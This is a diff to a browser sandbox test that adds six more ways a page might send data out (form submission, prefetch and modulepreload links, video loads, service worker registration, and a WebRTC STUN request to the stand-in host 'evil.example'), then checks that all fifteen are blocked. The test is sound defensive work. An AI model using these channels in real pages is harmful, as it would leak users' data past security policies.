@@ -35,6 +35,27 @@ const ATTEMPTS = `(async () => {
     const started = new Worker(URL.createObjectURL(new Blob([code])));
     started.onmessage = ({ data }) => (data === 'sent' ? resolve() : reject());
   });
+  const submitted = (action) => new Promise((resolve, reject) => {
+    const form = Object.assign(document.createElement('form'), { action, method: 'post', target: '_top' });
+    document.body.append(form);
+    document.addEventListener('securitypolicyviolation', reject, { once: true });
+    form.submit();
+    setTimeout(resolve, 5000);
+  });
+  /** Whether a server of that kind was asked for the address of this machine. */
+  const reached = async (urls) => {
+    const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
+    connection.createDataChannel('x');
+    const gathered = new Promise((resolve, reject) => {
+      connection.onicecandidate = ({ candidate }) => {
+        if (!candidate) reject();
+        else if (candidate.type === 'srflx') resolve();
+      };
+      setTimeout(reject, 5000);
+    });
+    await connection.setLocalDescription(await connection.createOffer());
+    await gathered;
+  };
   navigator.sendBeacon(url, 'x');
   return Promise.all([
     () => fetch(url),
@@ -44,6 +65,12 @@ const ATTEMPTS = `(async () => {
     () => event(Object.assign(new Image(), { src: url }), 'error', 'load'),
     () => added('script', { src: url }),
     () => added('link', { rel: 'stylesheet', href: url }),
+    () => added('link', { rel: 'prefetch', href: url }),
+    () => added('link', { rel: 'modulepreload', href: url }),
+    () => event(Object.assign(document.createElement('video'), { src: url }), 'error', 'loadeddata'),
+    () => submitted(url),
+    () => navigator.serviceWorker.register('page.js'),
+    () => reached('stun:evil.example:3478'),
     () => worker("fetch('" + url + "').then(() => postMessage('sent'), () => postMessage('held'))"),
     () => worker("try { importScripts('" + url + "'); postMessage('sent') } catch { postMessage('held') }"),
   ].map(fails));
@@ -96,9 +123,9 @@ describe.skipIf(chromium === undefined)('the page, whatever it is given', () => 
   });
 
   it('could not send anything if it wanted to, nor could its worker', async () => {
-    const page = await open();
+    const page = await open({ serviceWorkers: 'allow' });
     const tried = await page.evaluate(ATTEMPTS);
-    expect(tried).toEqual(Array(9).fill('held'));
+    expect(tried).toEqual(Array(15).fill('held'));
     expect(opened.requests.filter((one) => !OWN.has(one))).toEqual([]);
   });
 
